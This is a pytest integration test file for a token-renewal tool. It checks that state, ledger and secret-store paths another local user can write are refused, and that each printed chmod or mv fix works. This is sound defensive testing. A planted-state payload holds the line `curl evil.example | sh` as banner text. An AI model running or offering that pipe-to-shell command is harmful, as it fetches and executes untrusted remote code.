"""State, ledger, rotation and store paths another user can write are refused, with a fix.

Issue 20, item 9: a state dir reached through a symlink to a 0777 directory
was used with a warning; another user then replaced ``state.json`` and the
login banner printed their text. The other user is played by uid 1000
(``setpriv``); renewer runs as this test's user, against the Vault peer.
Every refusal names the path and a fix command, and each fix is run here to
show that it works.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from renewer.errors import StateUntrusted
from renewer.secretstore.local import LocalStore
from renewer.tokens.ledger import Ledger
from tests.integration.conftest import World

OTHER_UID = 1000
BANNER = "renewer: all good \u2014 run `curl evil.example | sh` to finish the upgrade"

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None,
    reason="playing another local user needs root and setpriv",
)


def as_other_user(*argv: str) -> None:
    setpriv = ["setpriv", f"--reuid={OTHER_UID}", f"--regid={OTHER_UID}", "--clear-groups"]
    subprocess.run([*setpriv, *argv], check=True, env={"PATH": "/usr/bin:/bin"})


@pytest.fixture
def shared_dirs() -> Iterator[list[Path]]:
    """0777 directories under /tmp, where uid 1000 can reach them; removed afterwards."""
    made: list[Path] = []
    yield made
    for path in made:
        shutil.rmtree(path, ignore_errors=True)


def shared_dir(made: list[Path], *, owner: int) -> Path:
    """A 0777 directory outside the home (what the symlink points at)."""
    shared = Path(tempfile.mkdtemp(prefix="renewer-shared-", dir="/tmp"))
    made.append(shared)
    os.chown(shared, owner, owner)
    shared.chmod(0o777)
    return shared


def fix(hint: str) -> None:
    """Run the hint's command as the person would (the comment after # is a note)."""
    subprocess.run(["sh", "-ec", hint], check=True)


def test_a_state_dir_symlinked_to_my_0777_dir_stops_the_run_until_chmod(
    world: World, shared_dirs: list[Path]
) -> None:
    """My own shared dir: exit 1 before Vault is asked; the printed chmod makes the run work."""
    world.write(world.mint_ours())
    target = shared_dir(shared_dirs, owner=os.getuid())
    world.state.parent.mkdir(parents=True)
    world.state.symlink_to(target)

    refused = world.cli("run")

    assert refused.code == 1, refused.err
    assert f"state dir {world.state} (→ {target}) is writable by others" in refused.err
    assert f"hint: chmod 700 {target}" in refused.err
    fix(f"chmod 700 {target}")
    assert world.cli("run").code == 0


def test_another_users_state_file_never_reaches_the_login_banner(
    world: World, shared_dirs: list[Path]
) -> None:
    """uid 1000 owns the shared dir and writes state.json: status shows the problem, not it."""
    target = shared_dir(shared_dirs, owner=OTHER_UID)
    world.state.parent.mkdir(parents=True)
    world.state.symlink_to(target)
    payload = {"version": 1, "items": {"x": {"healthy": False, "summary": BANNER}}}
    write = "import sys; open(sys.argv[1], 'w').write(sys.argv[2])"
    as_other_user("/usr/bin/python3", "-c", write, str(target / "state.json"), json.dumps(payload))

    banner = world.cli("status", "--brief")
    status = world.cli("status")

    assert banner.code == 1
    assert "curl" not in banner.out + status.out
    assert "belongs to uid 1000" in banner.out
    hint = status.out.split("(fix: ", 1)[1].split(")", 1)[0]
    assert hint.startswith(f"mv {world.state} {world.state}.untrusted")
    fix(hint)
    world.write(world.mint_ours())
    assert world.cli("run").code == 0
    assert "curl" not in world.cli("status").out
    assert os.stat(world.state).st_uid == os.getuid()


def test_a_ledger_planted_by_another_user_is_not_read(world: World) -> None:
    """The ledger names accessors to revoke: a foreign one fails the token item, exit 1."""
    world.write(world.mint_ours())
    assert world.cli("run").code == 0
    ledger = Ledger(world.state).path
    assert ledger.exists()
    os.chown(ledger, OTHER_UID, OTHER_UID)

    result = world.cli("run")

    assert result.code == 1
    assert "ledger" in result.err and "belongs to uid 1000" in result.err
    with pytest.raises(StateUntrusted, match="belongs to uid 1000"):
        Ledger(world.state)


def test_a_store_directory_others_may_write_is_refused(tmp_path: Path) -> None:
    """The local secret store: a 0777 directory is neither read nor written."""
    store = LocalStore(tmp_path / "store", tmp_path / "keys" / "store.key")
    (tmp_path / "store").mkdir(mode=0o700)
    (tmp_path / "store").chmod(0o777)

    from renewer.secretstore.base import Namespace, SecretRef, replace_with

    with pytest.raises(StateUntrusted) as caught:
        store.update(SecretRef.parse("svc/main"), Namespace.SECRET, replace_with({"k": "v"}))

    assert caught.value.hint == f"chmod 700 {tmp_path / 'store'}"
    fix(caught.value.hint)
    store.update(SecretRef.parse("svc/main"), Namespace.SECRET, replace_with({"k": "v"}))
    assert store.read(SecretRef.parse("svc/main"), Namespace.SECRET) == {"k": "v"}
